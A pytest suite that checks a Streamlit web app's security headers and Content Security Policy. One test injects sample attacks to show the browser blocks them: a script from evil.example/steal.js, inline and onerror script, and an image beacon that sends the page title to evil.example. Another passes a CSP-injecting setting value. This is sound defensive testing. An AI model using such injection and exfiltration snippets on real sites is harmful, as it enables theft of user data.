"""A page never runs what comes from elsewhere, and says so to the browser."""

import asyncio
import os
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, sync_playwright
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from content import PAGES, path_of
from tests import chromium, server
from tests.asking import ask
from web.protection import FRAMES_SETTING, frame_ancestors

_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
  it => violations.push(`${it.violatedDirective} ${it.blockedURI} ${it.sourceFile}`));
"""


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium.found(), args=list(chromium.ARGUMENTS)
        )
        page = browser.new_page()
        page.add_init_script(_VIOLATIONS)
        yield page
        browser.close()


@pytest.mark.parametrize(
    "path",
    [
        "",
        "claim",
        "none",
        "api/figures.json",
        "robots.txt",
        "app/static/style.css",
        "_stcore/metrics",
    ],
)
def test_every_answer_carries_the_headers(site, path):
    found = ask(site, f"/{path}").headers
    assert found["x-content-type-options"] == "nosniff"
    assert found["referrer-policy"] == "strict-origin-when-cross-origin"
    assert "camera=()" in found["permissions-policy"]
    rules = dict(rule.split(" ", 1) for rule in found["content-security-policy"].split("; "))
    scripts, sockets = rules.pop("script-src").split(), rules.pop("connect-src").split()
    assert rules == {
        "default-src": "'self'",
        "style-src": "'self' 'unsafe-inline'",
        "img-src": "'self' data:",
        "font-src": "'self' data:",
        "object-src": "'none'",
        "base-uri": "'self'",
        "form-action": "'self'",
        "frame-ancestors": "*",
    }
    assert scripts[:3] == ["'self'", "'wasm-unsafe-eval'", "blob:"]
    # Beside these only what stands in Streamlit's own document, to the letter.
    assert scripts[3:] and all(re.fullmatch(r"'sha256-[\w+/]{43}='", each) for each in scripts[3:])
    host = site.removeprefix("http://")
    assert sockets == ["'self'", f"ws://{host}", f"wss://{host}"]


@pytest.mark.parametrize(
    "path, status, asked",
    [
        ("claim?lang=en", 304, {"if_none_match": "*"}),
        ("app/static/style.css", 304, {"if_none_match": "*"}),
        ("Claim", 308, {}),
        ("static/", 301, {}),
        ("api/figures.json?rental_rate=x", 400, {}),
        ("rooms/K7QX", 404, {}),
        ("media/nothing", 404, {}),
        ("claim", 405, {"method": "DELETE"}),
        ("claim", 413, {"content_length": "99999"}),
        ("claim", 421, {"host": "ex ample"}),
        ("_stcore/host-config", 200, {}),
        ("metrics", 200, {}),
    ],
)
def test_so_do_refusals_and_what_says_little(site, path, status, asked):
    if "if_none_match" in asked:
        asked = {"if_none_match": ask(site, f"/{path}").headers["etag"]}
    answer = ask(site, f"/{path}", **asked)
    assert answer.status == status
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "strict-origin-when-cross-origin"
    assert "microphone=()" in answer.headers["permissions-policy"]
    assert "object-src 'none'" in answer.headers["content-security-policy"]


def test_so_does_the_refusal_of_a_websocket(site):
    async def refused() -> InvalidStatus:
        with pytest.raises(InvalidStatus) as refusal:
            await connect(
                site.replace("http", "ws") + "/_stcore/stream", origin="https://evil.example"
            )
        return refusal.value

    headers = asyncio.run(refused()).response.headers
    assert headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors" in headers["content-security-policy"]


@pytest.mark.parametrize("name", PAGES)
def test_no_page_needs_what_the_headers_forbid(page, site, name):
    page.goto(f"{site}/{path_of(name)}?rental_rate=9")
    way_on = page.locator(".st-key-way_on")
    way_on.wait_for(state="attached")
    for slider in page.get_by_role("slider").all()[:1]:
        slider.press("ArrowLeft")
    for summary in page.locator("[data-testid=stExpander] summary").all()[:3]:
        summary.click()
    page.wait_for_timeout(1000)
    assert page.evaluate("violations") == []


def test_what_is_smuggled_in_does_not_run(page, site):
    page.goto(f"{site}/claim")
    page.locator(".st-key-way_on").wait_for(state="attached")
    page.evaluate(
        """() => {
            const foreign = document.createElement("script");
            foreign.src = "https://evil.example/steal.js";
            const inline = document.createElement("script");
            inline.textContent = "window.stolen = true";
            document.body.append(foreign, inline);
            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='stolen = true'>");
            new Image().src = "https://evil.example/" + document.title;
            fetch("https://evil.example/").catch(() => {});
        }"""
    )
    # Waiting on a text would evaluate it in the page, which is forbidden there.
    for _ in range(50):
        if page.evaluate("violations.length") >= 5:
            break
        page.wait_for_timeout(100)
    assert page.evaluate("window.stolen") is None
    forbidden = {each.split(" ")[0] for each in page.evaluate("violations")}
    assert forbidden == {"script-src-elem", "script-src-attr", "img-src", "connect-src"}


@pytest.mark.parametrize(
    "given", ["'none'", "'self'", "*", "'self' https://example.org https://*.example.com:8443"]
)
def test_who_may_show_a_page_inside_theirs_is_a_setting(monkeypatch, given):
    monkeypatch.setenv(FRAMES_SETTING, given)
    assert frame_ancestors() == given


@pytest.mark.parametrize("given", ["'self'; script-src *", "a,b", "{sockets}", "ex ample'", "x\ny"])
def test_a_setting_that_would_say_something_else_is_refused_by_name(monkeypatch, given):
    monkeypatch.setenv(FRAMES_SETTING, given)
    with pytest.raises(ValueError, match=FRAMES_SETTING):
        frame_ancestors()


def test_a_setting_that_cannot_be_meant_stops_the_start(monkeypatch):
    monkeypatch.setenv(FRAMES_SETTING, "a,b")
    with pytest.raises(RuntimeError, match=f"{FRAMES_SETTING}='a,b'"), server.running():
        pass


def test_by_itself_the_story_may_be_shown_anywhere(monkeypatch):
    monkeypatch.delenv(FRAMES_SETTING, raising=False)
    assert frame_ancestors() == "*"


def test_the_setting_reaches_the_pages(monkeypatch):
    monkeypatch.setitem(os.environ, FRAMES_SETTING, "'self' https://example.org")
    with server.running() as fresh:
        policy = ask(fresh.address, "/claim").headers["content-security-policy"]
    assert policy.endswith("frame-ancestors 'self' https://example.org")
